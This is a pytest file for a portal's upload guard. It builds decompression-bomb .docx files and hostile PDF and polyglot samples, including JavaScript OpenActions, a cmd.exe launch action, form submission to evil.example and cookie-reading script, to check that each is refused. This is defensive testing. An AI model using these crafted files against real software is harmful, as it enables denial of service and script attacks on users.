"""Issue 12, M2 and L8: crafted Word files and attachments with active content (第二十条)."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest

from core import content, docx_guard, settings
from core.errors import ValidationError
from tests.apptest_helpers import app_as, open_page, texts
from tests.conftest import make_org

# --- crafted .docx files: the least a converter reads -------------------------------------

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="png" ContentType="image/png"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="word/document.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
_DOCUMENT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rIdImg" Target="media/image1.png" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/></Relationships>'
)
_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>'
)
_TAIL = "</w:body></w:document>"
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63f8cfc0f01f0005"
    "0601ff5d0a2c7f0000000049454e44ae426082"
)
IMAGE = ('<w:r><w:drawing><wp:inline><wp:docPr id="1" name="图" descr="示意图"/><a:graphic>'
         '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill>'
         '<a:blip r:embed="rIdImg"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>')


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx(*bodies: str, level: int = 6) -> bytes:
    """A .docx whose document.xml body is the given pieces, written out as a stream."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("word/_rels/document.xml.rels", _DOCUMENT_RELS)
        archive.writestr("word/media/image1.png", PNG)
        with archive.open("word/document.xml", "w") as document:
            document.write(_HEAD.encode())
            for body in bodies:
                document.write(body.encode())
            document.write(_TAIL.encode())
    return out.getvalue()


def repeated(piece: str, times: int, chunk: int = 10_000):
    """`piece` `times` times, in pieces of `chunk` (the file is built without holding it all)."""
    for start in range(0, times, chunk):
        yield piece * min(chunk, times - start)


SPLIT = ",请将文件拆分后分别上传,或复制文字粘贴"


def refused(data: bytes, limits: docx_guard.DocxLimits | None = None) -> str:
    """The limit a file was refused by, without the advice that follows every such refusal."""
    with pytest.raises(ValidationError) as caught:
        content.docx_to_html(data, limits)
    assert caught.value.field == "Word 文件"
    assert caught.value.article == "第二十条"
    assert caught.value.rule.endswith(SPLIT)
    return caught.value.rule.removesuffix(SPLIT)


# --- M2 ------------------------------------------------------------------------------------


def test_a_small_file_holding_a_200_mb_run_is_refused_by_its_unpacked_size():
    """M2: a 200 MB run packed into a few hundred KB is refused before conversion, naming the 100 MB limit."""
    # 17 million run children: what kept the converter busy for minutes
    data = docx("<w:p><w:r>", *repeated("<w:t>x</w:t>", 17_476_000, 200_000), "</w:r></w:p>", level=1)
    assert len(data) < 2 * 1024 * 1024
    assert refused(data) == "展开后 200 MB,超过 100 MB 上限"


def test_200000_paragraphs_are_refused_by_their_count():
    """M2: a .docx of 200,000 short paragraphs is refused at the 20,000th paragraph, before conversion."""
    data = docx(*repeated(paragraph("第一段"), 200_000))
    assert len(data) < 1024 * 1024
    assert refused(data) == "段落超过 2 万个上限"


def test_the_longest_stretch_of_text_is_limited():
    """M2: one text node of 300,000 characters is refused (limit 200,000)."""
    assert refused(docx(paragraph("字" * 300_000))) == "有一段连续文字超过 20 万字上限"


def test_one_picture_shown_many_times_is_refused():
    """M2: 201 references to one image (each would become its own copy in the body) are refused."""
    data = docx(f"<w:p>{IMAGE * 201}</w:p>")
    assert refused(data) == "图片超过 200 张上限"
    html, _ = content.docx_to_html(docx(f"<w:p>{IMAGE * 2}</w:p>"))
    assert html.count('<img alt="示意图" src="data:image/png;base64,') == 2


def test_too_many_elements_are_refused():
    """M2: a run of 400,000 empty elements is refused by the element count (limit 30 万)."""
    data = docx("<w:p><w:r>", *repeated("<w:tab/>", 400_000), "</w:r></w:p>")
    assert refused(data) == "内容过于复杂(XML 元素超过 30 万个上限)"


SLOW = ["<w:p><w:r>", *repeated("<w:t>x</w:t>", 1_000, 1_000), "</w:r></w:p>"] * 250  # 250,000 elements


def test_a_slow_file_that_passes_the_prechecks_is_stopped_at_the_time_limit():
    """M2: a file within every count but slow to convert is killed at the time limit, with a Chinese message."""
    data = docx(*SLOW)
    with docx_guard.open_docx(data) as archive:
        docx_guard.check_parts(archive, docx_guard.DocxLimits())  # passes every precheck
    assert refused(data, docx_guard.DocxLimits(seconds=1)).startswith("转换超时(1 秒)")


def test_a_huge_file_that_passes_the_prechecks_is_stopped_at_the_memory_limit():
    """M2: 10 million characters within every count exhaust a 100 MB memory bound; the officer is told so."""
    data = docx(*repeated(paragraph("字" * 100_000), 100, 10))
    with docx_guard.open_docx(data) as archive:
        docx_guard.check_parts(archive, docx_guard.DocxLimits())
    rule = refused(data, docx_guard.DocxLimits(memory_mb=100))
    assert rule.startswith("转换所需内存超过 100 MB 上限")


def test_the_limits_come_from_the_settings(con, org):
    """M2: the office sets the unpacked size, the paragraph count and the time limit (系统设置)."""
    assert settings.limits_from_settings(con) == docx_guard.DocxLimits()
    settings.set_values(con, org.webmaster, {"word_max_mb": "5", "word_max_paragraphs": "100",
                                             "word_convert_seconds": "10"})
    limits = settings.limits_from_settings(con)
    assert (limits.max_unpacked_mb, limits.max_paragraphs, limits.seconds) == (5, 100, 10)
    assert refused(docx(*repeated(paragraph("段"), 101)), limits) == "段落超过 100 个上限"


def test_the_officer_is_told_in_chinese_which_limit_a_word_upload_hit(tmp_path, con):
    """M2: on 我的稿件 a 200,000-paragraph upload leaves the body alone and names the paragraph limit."""
    make_org(con)
    con.close()
    at = open_page(app_as(tmp_path / "portal.duckdb", "officer"), "my_articles")
    next(b for b in at.button if b.key == "ma_new").click().run()
    at.file_uploader(key="ma_docx").set_value(
        ("炸弹.docx", docx(*repeated(paragraph("第一段"), 200_000)),
         "application/vnd.openxmlformats-officedocument.wordprocessingml.document"))
    at.run()
    assert not at.exception
    assert f"「Word 文件」:段落超过 2 万个上限{SPLIT}(第二十条)" in texts(at)
    assert not at.session_state["ma_body"]


# --- L8 ------------------------------------------------------------------------------------

ALLOWED = "pdf,doc,docx,xls,xlsx,ppt,pptx,wps,et,txt,zip,rar,jpg,jpeg,png,gif,ofd"


def pdf(*objects: bytes, root: bytes = b"<< /Type /Catalog /Pages 2 0 R >>") -> bytes:
    """A PDF of one blank page; `objects` are numbered from 4 on; `root` is the catalog."""
    body = [root, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>", *objects]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, item in enumerate(body, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, item))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(body) + 1, xref))
    return out.getvalue()


def object_stream(number: int, item: bytes) -> bytes:
    """A compressed object stream holding object `number`: what a raw look at the file cannot see."""
    header = b"%d 0 " % number
    packed = zlib.compress(header + item)
    return (b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (len(header), len(packed))) + packed + b"\nendstream"


def attachment_refused(filename: str, data: bytes) -> str:
    with pytest.raises(ValidationError) as caught:
        content.check_attachment(filename, data, ALLOWED, 20)
    assert caught.value.field == "附件"
    assert caught.value.article == "第二十条"
    return caught.value.rule


def pypdf_file(build) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize(("name", "data"), [
    ("一页.pdf", pdf()),
    ("打开即适合页面.pdf", pdf(root=b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>")),
    ("跳到第一页.pdf", pdf(root=b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>")),
    ("引用视图.pdf", pdf(b"[3 0 R /XYZ null null 0]", root=b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")),
    ("pypdf.pdf", pypdf_file(lambda writer: None)),
    ("禁止复制.pdf", pypdf_file(lambda writer: writer.encrypt("", "owner-secret"))),
])
def test_pdfs_without_active_content_are_accepted(name, data):
    """L8: ordinary PDFs (an opening view, a copy-protected file) still upload."""
    assert content.check_attachment(name, data, ALLOWED, 20) == "application/pdf"


@pytest.mark.parametrize(("name", "data", "what"), [
    ("打开即运行.pdf", pdf(root=b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript "
                              b"/JS (app.alert\\(1\\)) >> >>"), "JavaScript 脚本"),
    ("名称树.pdf", pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
                       root=b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(a) 4 0 R] >> >> >>"),
     "JavaScript 脚本"),
    ("转义名称.pdf", pdf(b"<< /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>",
                         root=b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"), "JavaScript 脚本"),
    ("藏在对象流.pdf", pdf(object_stream(5, b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
                          root=b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"), "JavaScript 脚本"),
    ("启动程序.pdf", pdf(root=b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>"),
     "启动外部程序的动作"),
    ("附带文件.pdf", pypdf_file(lambda writer: writer.add_attachment("说明.exe", b"MZ")), "嵌入的文件"),
    ("打开网址.pdf", pdf(root=b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI "
                            b"/URI (http://evil.example/) >> >>"), "打开文件时自动执行的动作"),
    ("翻页动作.pdf", pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>",
                         root=b"<< /Type /Catalog /Pages 2 0 R /AA << /WC 4 0 R >> >>"), "打开、关闭或翻页时自动执行的动作"),
    ("提交表单.pdf", pdf(root=b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm "
                            b"/F (http://evil.example/) >> >>"), "提交表单数据的动作"),
])
def test_pdfs_with_active_content_are_refused(name, data, what):
    """L8: a PDF with JavaScript, launch, embedded files or automatic actions is refused, naming what it holds."""
    rule = attachment_refused(name, data)
    assert rule == f"“{name}”含有{what},属于可自动运行的内容,不能上传;请用“另存为 PDF”或“打印为 PDF”重新生成后上传"


POLYGLOT_PDF = b"<html><body><script>alert(document.cookie)</script></body></html>\n" + pdf()


@pytest.mark.parametrize(("name", "data"), [
    ("网页与PDF.pdf", POLYGLOT_PDF),
    ("大写.pdf", b"%PDF-1.7\n%<SCRIPT>alert(1)</SCRIPT>\n" + pdf()[9:]),
    ("图片.png", PNG[:33] + b"\x00\x00\x00\x2btEXtComment\x00<svg onload=alert(1)></svg>" + PNG[33:]),
    ("动图.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00<script>alert(1)</script>"),
    ("说明.txt", "<!DOCTYPE html><p>通知</p><script>alert(1)</script>".encode()),
    ("说明GBK.txt", "  <html>通知</html>".encode("gb18030")),
])
def test_files_that_are_also_web_pages_are_refused(name, data):
    """L8: HTML/PDF polyglots and other files with web-page markup in their first kilobyte are refused."""
    assert attachment_refused(name, data).startswith(f"“{name}”的开头含有网页代码(如 <html>、<script>)")


def test_office_files_with_macros_are_refused():
    """L8: a macro document renamed to .docx, and an old .doc with a VBA project, are refused."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    assert "含有宏(VBA 代码)" in attachment_refused("方案.docx", out.getvalue())
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "_VBA_PROJECT".encode("utf-16-le") + b"\x00" * 64
    assert "含有宏(VBA 代码)" in attachment_refused("旧文档.doc", ole)
    assert content.check_attachment("旧文档.doc", ole[:512], ALLOWED, 20) == "application/msword"


def pdf_with_xref_stream(packed_object: bytes, flate: bool = False) -> bytes:
    """A PDF whose object 5 sits in an object stream, found through an xref stream; the catalog opens
    with object 5. ASCIIHex (no zlib to undo): only a PDF parser reads it."""
    header = b"5 0 "
    packed, name = ((zlib.compress(header + packed_object), b"FlateDecode") if flate
                    else ((header + packed_object).hex().encode() + b">", b"ASCIIHexDecode"))
    body = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            b"<< /Type /ObjStm /N 1 /First %d /Filter /%s /Length %d >>\nstream\n%s\nendstream"
            % (len(header), name, len(packed), packed)]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, item in enumerate(body, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, item))
    offsets.append(out.tell())  # object 6: the xref stream itself
    rows = [b"\x00\x00\x00\x00\x00\xff\xff"] + [b"\x01" + o.to_bytes(4, "big") + b"\x00\x00" for o in offsets[:4]]
    rows += [b"\x02" + (4).to_bytes(4, "big") + b"\x00\x00", b"\x01" + offsets[4].to_bytes(4, "big") + b"\x00\x00"]
    table = b"".join(rows)
    out.write(b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n"
              % (len(table), table))
    out.write(b"startxref\n%d\n%%%%EOF\n" % offsets[4])
    return out.getvalue()


def test_a_script_in_an_object_stream_only_a_parser_reads_is_refused():
    """L8: JavaScript in an object stream packed without zlib is found through the PDF parser."""
    data = pdf_with_xref_stream(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")
    assert "含有JavaScript 脚本" in attachment_refused("对象流.pdf", data)
    for flate in (False, True):  # an opening view kept in an object stream, as LaTeX writes it
        opening_view = pdf_with_xref_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>", flate)
        assert content.check_attachment("对象流视图.pdf", opening_view, ALLOWED, 20) == "application/pdf"
    uri = pdf_with_xref_stream(b"<< /S /URI /URI (http://evil.example/) >>", flate=True)
    assert "含有打开文件时自动执行的动作" in attachment_refused("对象流网址.pdf", uri)


def test_a_pdf_that_cannot_be_checked_is_refused():
    """L8: an object stream that neither zlib nor the PDF parser can read is refused: it might hold a script."""
    data = pdf(b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 9 >>\nstream\nnot zlib!\nendstream")
    data = data.replace(b"/Size 5 /Root 1 0 R", b"/Size 5 /Root 9 0 R")
    assert "中有无法检查的内容(无法确认不含脚本)" in attachment_refused("坏对象流.pdf", data)
